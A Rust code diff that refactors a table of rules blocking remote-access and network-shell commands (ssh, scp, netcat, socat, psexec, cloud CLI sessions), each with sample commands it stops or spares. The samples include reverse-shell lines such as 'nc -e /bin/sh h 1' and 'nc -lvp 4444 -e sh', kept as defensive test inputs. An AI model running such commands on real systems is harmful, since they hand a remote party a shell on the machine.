@@ -22,7 +22,7 @@ pub(super) const RULES: &[Rule] = &[
     Rule {
         name: "remote",
         why: "runs a shell on another machine",
-        programs: &["ssh", "slogin", "autossh", "dbclient"],
+        programs: "ssh slogin autossh dbclient",
         when: |call| !call.operands(&SSH).is_empty(),
         stops: &["ssh host", "ssh -l root host", "ssh -p 22 u@h ls"],
         spares: &["ssh -V", "ssh-keygen -lf key.pub"],
@@ -30,27 +30,8 @@ pub(super) const RULES: &[Rule] = &[
     Rule {
         name: "remote",
         why: "opens a session on another machine",
-        programs: &[
-            "sftp",
-            "mosh",
-            "rsh",
-            "rlogin",
-            "rexec",
-            "ssh-copy-id",
-            "sshpass",
-            "ftp",
-            "lftp",
-            "tftp",
-            "ncftp",
-            "pdsh",
-            "clush",
-            "psexec",
-            "plink",
-            "winrs",
-            "sshfs",
-            "pssh",
-            "parallel-ssh",
-        ],
+        programs: "sftp mosh rsh rlogin rexec ssh-copy-id sshpass ftp lftp tftp ncftp pdsh clush psexec plink \
+                   winrs sshfs pssh parallel-ssh",
         when: always,
         stops: &["sftp host", "ssh-copy-id host", "ftp host"],
         spares: &["grep sftp x"],
@@ -58,7 +39,7 @@ pub(super) const RULES: &[Rule] = &[
     Rule {
         name: "remote",
         why: "copies to or from another machine",
-        programs: &["scp", "rsync", "pscp", "rcp"],
+        programs: "scp rsync pscp rcp",
         when: |call| {
             call.operands(&Grammar { short: "ePioFlcJSfBMT", ..Grammar::default() })
                 .iter()
@@ -70,7 +51,7 @@ pub(super) const RULES: &[Rule] = &[
     Rule {
         name: "remote-shell",
         why: "ties a program to a connection",
-        programs: &["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"],
+        programs: "nc ncat netcat nc.traditional nc.openbsd",
         when: runs_program,
         stops: &["nc -e /bin/sh h 1", "ncat --exec sh h 1", "nc -lvp 4444 -e sh"],
         spares: &["nc -zv localhost 80"],
@@ -78,7 +59,7 @@ pub(super) const RULES: &[Rule] = &[
     Rule {
         name: "remote-shell",
         why: "ties a program to a connection",
-        programs: &["socat"],
+        programs: "socat",
         when: |call| {
             let runs = |word: &str| {
                 ["exec:", "system:", "shell:"].iter().any(|kind| word.to_ascii_lowercase().starts_with(kind))
@@ -91,7 +72,7 @@ pub(super) const RULES: &[Rule] = &[
     Rule {
         name: "remote",
         why: "opens a session on another machine",
-        programs: &["vagrant", "gcloud", "aws", "az", "flyctl", "fly", "heroku", "doctl"],
+        programs: "vagrant gcloud aws az flyctl fly heroku doctl",
         when: |call| {
             call.has_arg(&["ssh", "scp", "start-session", "ps:exec", "execute-command"])
                 || (call.name == "heroku" && call.has_arg(&["run"]))
